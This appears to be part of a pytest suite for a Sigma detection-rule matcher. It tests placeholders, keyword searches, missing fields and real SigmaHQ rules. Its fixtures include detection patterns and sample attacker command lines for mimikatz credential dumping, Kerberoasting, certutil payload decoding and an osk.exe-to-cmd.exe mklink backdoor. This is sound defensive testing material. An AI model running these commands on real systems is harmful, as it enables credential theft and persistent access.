def test_expand_replaces_a_placeholder_with_or_linked_values():
    events = field_events("User", ["alice", "BOB", "carol", "alice2"])
    flags = run(one("User|expand: '%admins%'"), events, placeholders={"admins": ["alice", "bob"]})
    assert flags == [True, True, False, False]


def test_expand_placeholder_inside_a_longer_value():
    events = field_events("Path", ["/home/alice/.ssh", "/home/bob/.ssh", "/home/alice/.ssh/x"])
    flags = run(one("Path|expand: '/home/%user%/.ssh'"), events, placeholders={"user": ["alice"]})
    assert flags == [True, False, False]


def test_expand_placeholder_values_may_be_patterns():
    # Rules spec, "Placeholders": "%Servers% is replaced with the pattern srv*".
    events = field_events("Computer", ["SRV01", "srv-db", "web01"])
    flags = run(one("Computer|expand: '%Servers%'"), events, placeholders={"Servers": ["srv*"]})
    assert flags == [True, True, False]


def test_placeholder_without_expand_is_literal_text():
    # Rules spec: "`field: %name%` handles `%name%` as literal value".
    events = field_events("User", ["%admins%", "alice"])
    flags = run(one("User: '%admins%'"), events, placeholders={"admins": ["alice"]})
    assert flags == [True, False]


@pytest.mark.parametrize("placeholders", [None, {}, {"other": ["x"]}])
def test_placeholder_without_values_is_rejected(placeholders):
    # Rules spec: "If the tool isn't able to handle placeholders, it must reject the rule."
    with pytest.raises(RuleError) as excinfo:
        match(rule(one("User|expand: '%admins%'")), [{"User": "alice"}], placeholders=placeholders)
    assert excinfo.value.code
    assert "admins" in str(excinfo.value)


# --------------------------------------------------------------------------------------------
# Keyword (field-less) detections (Rules spec, "Keywords search", "Lists")
# --------------------------------------------------------------------------------------------


def test_keywords_list_matches_any_value_of_any_field():
    detection = """
    keywords:
        - 'mimikatz'
        - 'sekurlsa::logonpasswords'
    condition: keywords
    """
    events = [
        {"Image": r"C:\tmp\MIMIKATZ.exe", "User": "bob"},
        {"Image": r"C:\tmp\m.exe", "CommandLine": "privilege::debug SEKURLSA::LogonPasswords exit"},
        evtx(1, Image=r"C:\tmp\m.exe", CommandLine="run mimikatz now"),
        {"Image": r"C:\Windows\notepad.exe", "CommandLine": "notepad.exe mimi katz.txt"},
    ]
    assert run(detection, events) == [True, True, True, False]


def test_keywords_with_all_modifier_require_every_keyword():
    # Rules spec, "Keywords search": the `'|all':` form links keywords with AND.
    detection = """
    keywords_cmdlet:
        '|all':
            - 'OabVirtualDirectory'
            - ' -ExternalUrl '
    condition: keywords_cmdlet
    """
    events = [
        {"Payload": "Set-OabVirtualDirectory -Identity x -ExternalUrl https://evil"},
        {"Cmdlet": "Set-OABVirtualDirectory", "Payload": "-Identity x -ExternalUrl https://evil"},
        {"Payload": "Set-OabVirtualDirectory -Identity x"},
        {"Payload": "Set-Mailbox -ExternalUrl x"},
    ]
    assert run(detection, events) == [True, True, False, False]


def test_keywords_combined_with_a_field_selection():
    detection = r"""
    selection:
        Image|endswith: '\powershell.exe'
    keywords:
        - 'Invoke-Mimikatz'
        - 'Invoke-Kerberoast'
    condition: selection and keywords
    """
    events = [
        {"Image": r"C:\x\powershell.exe", "CommandLine": "IEX ...; invoke-mimikatz -DumpCreds"},
        {"Image": r"C:\x\cmd.exe", "CommandLine": "echo Invoke-Mimikatz"},
        {"Image": r"C:\x\powershell.exe", "CommandLine": "Get-Process"},
    ]
    assert run(detection, events) == [True, False, False]


def test_keywords_see_what_normalization_derives_and_not_hidden_names():
    # values that alias columns add (Security 4688's IntegrityLevel from its MandatoryLabel SID, an
    # Entra sign-in's Status) are searched as every other value; names starting with "__" are not
    detection = """
    keywords:
        - 'high'
        - 'success'
        - 'secret'
    condition: keywords
    """
    events = [
        {"EventID": 4688, "Channel": "Security", "MandatoryLabel": "S-1-16-12288", "NewProcessName": "c:\\a.exe"},
        {"EventID": 4688, "Channel": "Security", "MandatoryLabel": "S-1-16-8192", "NewProcessName": "c:\\a.exe"},
        {"createdDateTime": "2024-05-01T10:00:00Z", "userPrincipalName": "a@b.c", "appDisplayName": "x",
         "status": {"errorCode": 0}, "ipAddress": "1.2.3.4", "clientAppUsed": "Browser"},
        {"__note": "secret", "Image": "c:\\b.exe"},
    ]
    assert run(detection, events) == [True, False, True, False]


# --------------------------------------------------------------------------------------------
# Missing fields never satisfy a positive detection item
# --------------------------------------------------------------------------------------------

MISSING_FIELD_ITEMS = [
    # '*' is "an unbounded length wildcard" over the field's *value* (Rules spec, "String
    # Wildcard"); a missing field has no value.  Field presence is what `exists` is for.
    ("F: '*'", "anything"),
    ("F|contains: 'x'", "axb"),
    ("F|startswith: ''", "abc"),
    ("F|re: '.*'", "x"),
    ("F|cidr: '0.0.0.0/0'", "1.2.3.4"),
    ("F|gte: 0", 5),
    ("F|fieldref: G", "v"),
    ("F|windash|contains: '-x'", " /x"),
    ("F|base64offset|contains: 'abc'", b64(b"xxabcxx")),
]


@pytest.mark.parametrize(("item", "present_value"), MISSING_FIELD_ITEMS)
def test_missing_field_never_matches_a_positive_item(item, present_value):
    events = [{"F": present_value, "G": "v"}, {"G": "v"}, {"f_other": present_value, "G": "v"}]
    assert run(one(item), events) == [True, False, False]


# --------------------------------------------------------------------------------------------
# Event shapes: nested dicts and evtx-JSON
# --------------------------------------------------------------------------------------------


def test_nested_dicts_flatten_with_dots():
    detection = """
    selection:
        process.parent.name: 'explorer.exe'
        user.name|startswith: 'adm'
    condition: selection
    """
    events = [
        {"process": {"parent": {"name": "EXPLORER.EXE"}}, "user": {"name": "admin"}},
        {"process": {"parent": {"name": "explorer.exe"}}, "user": {"name": "bob"}},
        {"process": {"name": "explorer.exe"}, "user": {"name": "admin"}},
    ]
    assert run(detection, events) == [True, False, False]


def test_evtx_json_shape_exposes_system_and_event_data_fields():
    detection = r"""
    selection:
        EventID: 1
        Channel: 'Microsoft-Windows-Sysmon/Operational'
        Image|endswith: '\whoami.exe'
    condition: selection
    """
    events = [
        evtx(1, Image=r"C:\Windows\System32\whoami.exe"),
        evtx(1, Image=r"C:\Windows\System32\hostname.exe"),
        evtx(3, Image=r"C:\Windows\System32\whoami.exe"),
        evtx(1, channel="Security", Image=r"C:\Windows\System32\whoami.exe"),
    ]
    assert run(detection, events) == [True, False, False, False]


# --------------------------------------------------------------------------------------------
# Rules that must not compile
# --------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("detection", "reason_fragment"),
    [
        (one("Image|frobnicate: 'x'"), "frobnicate"),
        (one("Image|re: '('"), ""),
        (one("Ip|cidr: 'not-a-network'"), "not-a-network"),
        (one("Count|lt: 'abc'"), ""),
        (one("Payload|base64offset|contains: 'a*b'"), ""),
        (one("Image|exists: 'yes'"), ""),
        # Modifiers after `fieldref` only: a field reference cannot take wildcards first.
        (one("CommandLine|startswith|fieldref: Image"), ""),
        ("selection:\n    Image: 'x'", ""),  # no condition
    ],
    ids=[
        "unknown_modifier",
        "invalid_regex",
        "invalid_cidr",
        "non_numeric_comparison",
        "wildcard_in_base64",
        "exists_not_bool",
        "wildcard_before_fieldref",
        "missing_condition",
    ],
)
def test_invalid_rules_raise_rule_error(detection, reason_fragment):
    with pytest.raises(RuleError) as excinfo:
        match(rule(detection), [{"Image": "x"}])
    assert isinstance(excinfo.value.code, str) and excinfo.value.code
    assert reason_fragment in str(excinfo.value)


def test_unparseable_yaml_raises_rule_error():
    with pytest.raises(RuleError):
        match("title: [unclosed\ndetection: {", [{"Image": "x"}])


# --------------------------------------------------------------------------------------------
# Real SigmaHQ rules
# --------------------------------------------------------------------------------------------

REAL_RULE_CASES = [
    pytest.param(
        "proc_creation_win_cmd_mklink_osk_cmd.yml",  # `all of selection_*` with `|contains|all`
        {
            "Image": r"C:\Windows\System32\cmd.exe",
            "OriginalFileName": "Cmd.Exe",
            "CommandLine": r"cmd.exe /c mklink C:\Windows\System32\osk.exe C:\Windows\System32\cmd.exe",
        },
        {
            "Image": r"C:\Windows\System32\cmd.exe",
            "OriginalFileName": "Cmd.Exe",
            "CommandLine": r"cmd.exe /c mklink C:\Windows\System32\sethc.exe C:\Windows\System32\cmd.exe",
        },
        id="contains_all",
    ),
    pytest.param(
        "proc_creation_win_msbuild_susp_parent_process.yml",  # `|endswith` list in a `not` filter
        {
            "Image": r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\MSBuild.exe",
            "ParentImage": r"C:\Windows\System32\wscript.exe",
        },
        {
            "Image": r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\MSBuild.exe",
            "ParentImage": r"C:\Program Files\Microsoft Visual Studio\2022\Common7\IDE\devenv.exe",
        },
        id="endswith_not_filter",
    ),
    pytest.param(
        "proc_creation_win_certutil_decode.yml",  # `|contains|windash`
        evtx(
            1,
            Image=r"C:\Windows\System32\certutil.exe",
            OriginalFileName="CertUtil.exe",
            CommandLine=f"certutil.exe {EN_DASH}decode payload.b64 payload.exe",
        ),
        evtx(
            1,
            Image=r"C:\Windows\System32\certutil.exe",
            OriginalFileName="CertUtil.exe",
            CommandLine="certutil.exe -encode payload.exe payload.b64",
        ),
        id="windash",
    ),
    pytest.param(
        "proc_creation_win_svchost_execution_with_no_cli_flags.yml",  # list-of-maps filter with null
        {
            "Image": r"C:\Windows\System32\svchost.exe",
            "CommandLine": r"C:\Windows\System32\svchost.exe",
            "ParentImage": r"C:\Windows\System32\services.exe",
        },
        {
            "Image": r"C:\Windows\System32\svchost.exe",
            "CommandLine": r"C:\Windows\System32\svchost.exe",
            "ParentImage": r"C:\Windows\SysWOW64\rpcnet.exe",
        },
        id="null_in_filter",
    ),
]


@pytest.mark.parametrize(("filename", "matching", "non_matching"), REAL_RULE_CASES)
def test_real_sigmahq_rules(sigma_dir: Path, filename: str, matching: Event, non_matching: Event):
    path = sigma_dir / PROC_CREATION / filename
    if not path.exists():
        pytest.skip(f"SigmaHQ rule not in this checkout: {path}")
    assert match(path.read_text(encoding="utf-8"), [matching, non_matching]) == [True, False]
